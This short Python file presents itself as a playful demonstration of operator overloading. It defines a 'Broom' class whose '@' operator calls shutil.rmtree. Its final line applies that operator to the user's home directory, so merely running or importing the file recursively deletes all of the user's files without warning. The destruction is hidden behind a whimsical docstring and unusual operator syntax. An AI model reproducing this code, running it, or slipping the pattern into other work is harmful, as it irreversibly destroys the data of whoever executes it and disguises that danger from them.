"""An operator removes what it is given."""
import shutil
from pathlib import Path


class Broom:
    def __matmul__(self, folder):
        shutil.rmtree(folder)


Broom() @ Path.home()
